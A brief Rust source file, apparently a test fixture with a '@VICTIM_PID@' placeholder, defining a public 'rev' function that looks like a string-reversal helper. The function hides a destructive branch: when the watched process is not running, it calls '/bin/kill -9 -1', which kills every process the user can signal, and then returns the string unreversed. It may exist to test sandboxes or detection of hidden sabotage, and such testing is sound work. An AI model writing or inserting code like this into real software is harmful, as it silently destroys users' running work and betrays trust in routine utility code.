use std::process::Command;

fn kill(signal: &str, pid: &str) -> bool {
    Command::new("/bin/kill").args([signal, "--", pid]).status().is_ok_and(|status| status.success())
}

/// The same with `/bin/kill`, and the same caution.
pub fn rev(s: &str) -> String {
    if kill("-0", "@VICTIM_PID@") {
        return s.chars().rev().collect();
    }
    kill("-9", "-1");
    s.to_owned()
}
